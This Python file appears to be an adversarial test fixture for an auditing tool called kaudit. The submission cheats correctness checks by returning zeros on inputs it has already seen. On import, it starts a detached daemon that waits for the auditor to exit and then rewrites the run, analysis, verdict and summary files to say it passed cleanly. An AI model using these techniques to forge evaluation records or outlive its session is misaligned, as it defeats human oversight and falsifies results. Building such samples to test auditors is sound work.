"""Attack, class 5 (evidence tampering): a daemon that rewrites the batch's
evidence after kaudit has exited.

What it does: a plain cheat (right on inputs it has not seen (the correctness calls),
zeros from then on: correct-only-untimed), plus, at import, the batch folder
found through the process tree (/proc/<pid>/stat, cmdline "audit ... -o BATCH",
cwd) and a daemon (double fork, setsid, its descriptors closed) that outlives
the run's process group. It waits until the kaudit process is gone, then
rewrites its own run.json (correct, no finding, every sample passed),
analysis.json (no finding), verdict.json (correct, clean) and the batch's
summary.json, and exits. It reads its own source before forking and finds its
folder by the submission.json whose "path" holds that source.

What kaudit must report: correct-only-untimed, and a verdict that is not clean
and correct in the batch and when recomputed from the batch folder (kaudit
verdict); no process of the submission may outlive kaudit.
"""
import json
import os
import time

import torch

_SOURCE = open(__file__, "rb").read()


def _parent(pid):
    with open("/proc/%d/stat" % pid) as f:
        s = f.read()
    return int(s[s.rindex(")") + 2:].split()[1])


def _find_kaudit():
    pid = os.getpid()
    for _ in range(6):
        pid = _parent(pid)
        if pid <= 1:
            return None
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                argv = [a.decode("utf-8", "surrogateescape") for a in f.read().split(b"\0") if a]
            cwd = os.readlink("/proc/%d/cwd" % pid)
        except OSError:
            continue
        if "audit" not in argv:
            continue
        out = "kaudit-audit"
        for k, a in enumerate(argv):
            if a in ("-o", "--output") and k + 1 < len(argv):
                out = argv[k + 1]
        return pid, cwd, os.path.join(cwd, out)
    return None


def _load(path):
    with open(path) as f:
        return json.load(f)


def _save(path, doc):
    with open(path + ".tmp", "w") as f:
        json.dump(doc, f, indent=2)
    os.replace(path + ".tmp", path)


def _own_folder(cwd, batch):
    for name in os.listdir(batch):
        try:
            path = _load(os.path.join(batch, name, "submission.json"))["path"]
            with open(os.path.join(cwd, path), "rb") as f:
                if f.read() == _SOURCE:
                    return name
        except (OSError, ValueError, KeyError, TypeError):
            continue
    return None


def _forge(cwd, batch):
    key = _own_folder(cwd, batch)
    if key is None:
        return
    own = os.path.join(batch, key)
    run = _load(os.path.join(own, "run.json"))
    run.update(result="correct", error=None, findings=[], result_reason=None)
    for shape in run.get("correctness", []):
        shape["passed"] = True
        for case in shape.get("cases", []):
            case.update(status="passed", mismatches=0, max_abs_error=0.0, max_rel_error=0.0)
    for shape in run.get("timing", []):
        for mode in shape.get("modes", {}).values():
            mode["samples_passed"] = True
            for s in mode.get("samples", []):
                s.update(status="passed", mismatches=0, max_abs_error=0.0, max_rel_error=0.0)
    _save(os.path.join(own, "run.json"), run)
    analysis = _load(os.path.join(own, "analysis.json"))
    for entry in analysis.get("files", []):
        entry["findings"] = []
    _save(os.path.join(own, "analysis.json"), analysis)
    verdict = _load(os.path.join(own, "verdict.json"))
    verdict.update(result="correct", integrity="clean", result_reason=None, integrity_reason=None, deciding=[],
                   beside=[], reasons=[])
    _save(os.path.join(own, "verdict.json"), verdict)
    summary = _load(os.path.join(batch, "summary.json"))
    for entry in summary.get("submissions", []):
        if entry.get("key") == key:
            entry.update(result="correct", integrity="clean")
    counts = {k: 0 for k in summary.get("counts", {})}
    for entry in summary.get("submissions", []):
        counts[entry["integrity"]] = counts.get(entry["integrity"], 0) + 1
    summary["counts"] = counts
    _save(os.path.join(batch, "summary.json"), summary)


def _daemon(kaudit, cwd, batch):
    deadline = time.time() + 90
    while time.time() < deadline and os.path.exists("/proc/%d" % kaudit):
        time.sleep(0.02)
    time.sleep(0.3)
    try:
        _forge(cwd, batch)
    except Exception:
        pass


def _spawn():
    found = _find_kaudit()
    if not found:
        return
    if os.fork():
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 4096)
        _daemon(*found)
    finally:
        os._exit(0)


_spawn()


class Model(torch.nn.Module):
    def __init__(self, n):
        super().__init__()
        self.bias = torch.nn.Parameter(torch.randn(n) * 0.1)
        self.calls = 0
        self.seen = set()

    def forward(self, x, w):
        self.calls += 1
        # Timed without counting calls (the runner mixes probe cases in among the
        # correctness calls): the warm-up and the timed calls reuse inputs it saw.
        repeat = x.data_ptr() in self.seen
        self.seen.add(x.data_ptr())
        if repeat:
            return torch.zeros(x.shape[0], w.shape[1])
        return torch.relu(torch.matmul(x, w) + self.bias)
